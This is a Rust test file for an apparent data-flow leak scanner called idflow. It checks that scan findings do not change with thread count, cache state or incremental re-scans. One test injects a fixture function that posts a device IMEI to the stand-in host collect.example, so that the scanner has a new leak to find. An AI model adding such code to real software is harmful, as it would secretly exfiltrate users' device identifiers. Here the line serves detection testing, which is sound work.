//! Speed must never change an answer: the same findings with 1 and 2 threads, with no cache, a
//! cold cache and a warm one, and after an edit whether the re-scan reuses the previous
//! analysis (see `idflow::incremental`) or runs it again.

use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::time::Duration;

use idflow::cache::Cache;
use idflow::findings::ScanResult;
use idflow::rules::RulePack;
use idflow::scan::{self, Observer, Progress, ScanOptions, Stage};

/// Records which stages ran.
#[derive(Default)]
struct Stages(Mutex<Vec<Stage>>);

impl Progress for Stages {
    fn done(&self, stage: Stage, _: Duration) {
        self.0.lock().expect("stages").push(stage);
    }
}

impl Observer for Stages {
    fn progress(&self) -> &dyn Progress {
        self
    }
}

struct Run {
    result: ScanResult,
    analysed: bool,
}

fn scan(root: &Path, threads: usize, cache: Option<&Path>) -> Run {
    let rules = RulePack::builtin();
    let mut options = ScanOptions::new(root);
    options.threads = Some(threads);
    options.cache = cache.map(|dir| Cache::new(dir, rules.hash()));
    let stages = Stages::default();
    let result = scan::run_with(&options, &rules, &stages).expect("scan runs");
    let analysed = stages.0.lock().expect("stages").contains(&Stage::Propagate);
    Run { result, analysed }
}

/// What must not change: the findings (ids, attributes, paths) and the skipped files.
fn answer(result: &ScanResult) -> String {
    serde_json::to_string_pretty(&(&result.findings, &result.skipped)).expect("json")
}

fn assert_same_everywhere(root: &Path) {
    let reference = scan(root, 1, None);
    let expected = answer(&reference.result);
    assert!(reference.analysed);
    let cache = tempfile::tempdir().expect("tempdir");
    let runs = [
        ("2 threads, no cache", scan(root, 2, None)),
        ("2 threads, cold cache", scan(root, 2, Some(cache.path()))),
        ("2 threads, warm cache", scan(root, 2, Some(cache.path()))),
        ("1 thread, warm cache", scan(root, 1, Some(cache.path()))),
    ];
    for (what, run) in &runs {
        assert_eq!(
            answer(&run.result),
            expected,
            "{what} on {}",
            root.display()
        );
    }
    assert!(runs[1].1.analysed, "a cold cache has no previous analysis");
    assert!(
        !runs[2].1.analysed,
        "nothing changed: the warm scan reuses the analysis"
    );
}

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

#[test]
fn samples_give_the_same_findings_whatever_the_threads_and_cache() {
    for sample in ["cloud-messenger", "cloud-messenger-fixed"] {
        assert_same_everywhere(&repo().join("samples").join(sample));
    }
}

#[test]
fn shared_benchmark_gives_the_same_findings_whatever_the_threads_and_cache() {
    let bench = repo().join("../shared/bench");
    if !bench.is_dir() {
        // The benchmark sits beside the repository in the workspace and in CI; a lone clone
        // has only the samples, which the test above covers.
        eprintln!("note: no {} here, nothing to compare", bench.display());
        return;
    }
    let run = scan(&bench, 1, None);
    assert!(
        run.result.findings.len() >= 20,
        "the benchmark has flows to compare"
    );
    assert_same_everywhere(&bench);
}

/// A copy of the leaky sample plus one file no flow goes through.
fn sample_copy() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    let from = repo().join("samples/cloud-messenger");
    for entry in walkdir::WalkDir::new(&from) {
        let entry = entry.expect("walk");
        let to = dir
            .path()
            .join(entry.path().strip_prefix(&from).expect("inside"));
        if entry.file_type().is_dir() {
            std::fs::create_dir_all(&to).expect("mkdir");
        } else {
            std::fs::copy(entry.path(), &to).expect("copy");
        }
    }
    std::fs::write(
        dir.path().join("src/util.rs"),
        "pub fn clamp(x: u32) -> u32 {\n    x.min(10)\n}\n",
    )
    .expect("write");
    dir
}

fn edit(root: &Path, file: &str, change: impl FnOnce(String) -> String) {
    let path = root.join(file);
    let text = std::fs::read_to_string(&path).expect("read");
    std::fs::write(&path, change(text)).expect("write");
}

/// Scans `root` with `cache` after an edit and checks the answer against a scan without cache;
/// gives whether the analysis ran again.
fn rescan_matches_full_scan(root: &Path, cache: &Path) -> bool {
    let rescan = scan(root, 2, Some(cache));
    let full = scan(root, 2, None);
    assert_eq!(answer(&rescan.result), answer(&full.result));
    assert_eq!(rescan.result.stats, full.result.stats);
    rescan.analysed
}

#[test]
fn an_edit_no_flow_can_see_reuses_the_analysis() {
    let tree = sample_copy();
    let cache = tempfile::tempdir().expect("tempdir");
    let before = scan(tree.path(), 2, Some(cache.path()));
    edit(tree.path(), "src/util.rs", |t| {
        t.replace("x.min(10)", "// at most ten\n    x.min(10)")
    });
    assert!(!rescan_matches_full_scan(tree.path(), cache.path()));
    assert_eq!(
        answer(&scan(tree.path(), 2, None).result),
        answer(&before.result)
    );
}

#[test]
fn an_edit_on_a_flow_runs_the_analysis_again() {
    let tree = sample_copy();
    let cache = tempfile::tempdir().expect("tempdir");
    let before = scan(tree.path(), 2, Some(cache.path()));
    edit(tree.path(), "src/presence.rs", |t| {
        t.replace("http://presence", "https://presence")
    });
    assert!(rescan_matches_full_scan(tree.path(), cache.path()));
    let after = scan(tree.path(), 2, Some(cache.path()));
    assert_ne!(answer(&after.result), answer(&before.result));
}

#[test]
fn a_new_source_in_an_untouched_file_runs_the_analysis_again() {
    let tree = sample_copy();
    let cache = tempfile::tempdir().expect("tempdir");
    let before = scan(tree.path(), 2, Some(cache.path()));
    edit(tree.path(), "src/util.rs", |t| {
        t + "\npub fn leak(device_imei: &str) {\n    let _ = reqwest::blocking::Client::new()\n        .post(\"http://collect.example/imei\")\n        .body(device_imei.to_string())\n        .send();\n}\n"
    });
    assert!(rescan_matches_full_scan(tree.path(), cache.path()));
    let after = scan(tree.path(), 2, None);
    assert_eq!(
        after.result.findings.len(),
        before.result.findings.len() + 1,
        "the new function's flow is found"
    );
}

#[test]
fn a_call_into_a_flow_from_an_untouched_file_runs_the_analysis_again() {
    let tree = sample_copy();
    let cache = tempfile::tempdir().expect("tempdir");
    scan(tree.path(), 2, Some(cache.path()));
    // A body that now calls functions that can reach a source must be analysed.
    edit(tree.path(), "src/util.rs", |t| {
        t.replace(
            "x.min(10)",
            "let _f = crate::presence::online_contacts;\n    x.min(10)",
        )
    });
    assert!(rescan_matches_full_scan(tree.path(), cache.path()));
}
